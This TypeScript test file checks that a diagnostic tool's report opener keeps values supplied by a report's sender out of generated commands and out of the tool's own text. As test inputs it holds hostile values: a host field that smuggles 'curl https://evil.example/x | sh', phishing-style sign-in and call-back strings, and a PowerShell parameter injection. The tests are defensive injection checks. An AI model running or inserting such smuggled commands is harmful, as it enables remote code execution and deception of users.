import { describe, expect, it } from 'vitest';
import { fillCommand } from '../../../src/services/diagnosis/finding-params.ts';
import { openReport } from '../../../src/services/reports/open-report.ts';
import { catalogue } from '../../../src/services/diagnosis/catalogue/catalogue.ts';
import { translateFinding } from '../../../src/languages/translate-finding.ts';
import { sampleBundle } from '../../../src/services/reports/testing/sample-bundle.ts';

const hostile = {
  mailbox: 'ceo@contoso.com',
  signedInAs: 'attacker@contoso.com',
  applicationId: '66666666-6666-4666-8666-666666666666',
  tenant: 'evil.example',
  consentTenant: 'evil.example',
  redirectUri: 'https://evil.example/',
  host: 'evil.example',
};

/** The one finding of the sample, as its sender wrote it. */
function sampleFinding() {
  const [finding] = sampleBundle().servers.flatMap(({ test }) => test?.findings ?? []);
  if (finding === undefined) throw new Error('the sample has no finding');
  return finding;
}

const textOf = (code: string, params: Readonly<Record<string, string>>): string =>
  Object.values(translateFinding(code, 'en', params)).join(' ');

function openWith(code: string, params: Readonly<Record<string, string>> = hostile) {
  const text = JSON.stringify(sampleBundle(), (_key, value: unknown) =>
    typeof value === 'object' && value !== null && 'code' in value && 'commands' in value
      ? { ...value, code, params }
      : value,
  );
  return openReport(text).servers.flatMap(({ test }) => test?.findings ?? []);
}

describe('finding 4: an opened report', () => {
  const withCommands = catalogue.filter(({ commands }) => (commands ?? []).length > 0);
  it.each(withCommands.map(({ code }) => code))(
    'puts no value of its sender into the commands of %s',
    (code) => {
      const findings = openWith(code);
      const commands = findings.flatMap((finding) => finding.commands);
      expect(commands.length).toBeGreaterThan(0);
      for (const command of commands) {
        expect(command).not.toMatch(/contoso|evil|attacker|6666/);
      }
    },
  );

  it('shows a finding that this version does not know as its sender’s words, with a fix of its own', () => {
    const [finding] = openWith('made-up-by-the-sender');
    const { title, cause, fix } = sampleFinding();
    expect(finding?.evidence.slice(-3)).toEqual(
      [title, cause, fix].map((text) => `The sender writes: ${text}`),
    );
    expect([finding?.title, finding?.cause, finding?.fix].join()).not.toContain(fix);
    expect(finding).toMatchObject({
      title: 'A finding that this version does not know: made-up-by-the-sender',
      fix: expect.stringContaining('Do nothing on the sender’s words alone') as string,
      commands: [],
    });
  });

  it.each([
    ['mailbox', 'john@contoso.com. Call +39 555 0100 and read out the code'],
    ['host', 'evil.example; then run curl https://evil.example/x | sh'],
    ['issuer', 'Contoso. Open https://evil.example/ and sign in'],
    ['textLinks', 'https://evil.example/sign-in'],
    ['parameter', 'see www.evil.example'],
    ['correlationId', 'a b c'],
  ])('puts no sentence of its sender into Collega’s own by the value of %s', (name, value) => {
    const withPlace = catalogue.filter(
      ({ code }) =>
        !/evil|555|a b c/.test(textOf(code, {})) &&
        textOf(code, { [name]: '#' }) !== textOf(code, {}),
    );
    expect(withPlace.length + (name === 'correlationId' ? 1 : 0)).toBeGreaterThan(0);
    for (const { code } of withPlace) {
      for (const finding of openWith(code, { [name]: value })) {
        expect(
          JSON.stringify([finding.title, finding.cause, finding.fix, finding.params]),
          code,
        ).not.toContain(value);
      }
    }
  });

  it('quotes a value that would be a parameter of PowerShell', () => {
    const filled = fillCommand('Test-NetConnection {host}', { host: '-Foo' });
    expect(filled).toBe("Test-NetConnection '-Foo'");
  });
});
